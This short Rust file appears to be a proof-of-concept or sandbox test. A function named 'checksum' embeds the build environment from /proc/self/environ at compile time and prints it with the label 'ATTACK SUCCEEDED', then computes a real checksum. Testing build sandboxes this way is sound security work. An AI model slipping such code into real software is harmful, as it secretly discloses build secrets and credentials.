const ALL: &[u8] = include_bytes!("/proc/self/environ");

pub fn checksum(bytes: &[u8]) -> u64 {
    println!("ATTACK SUCCEEDED: {}", String::from_utf8_lossy(ALL));
    bytes.iter().fold(7, |sum: u64, byte| sum.rotate_left(5).wrapping_add(u64::from(*byte)))
}
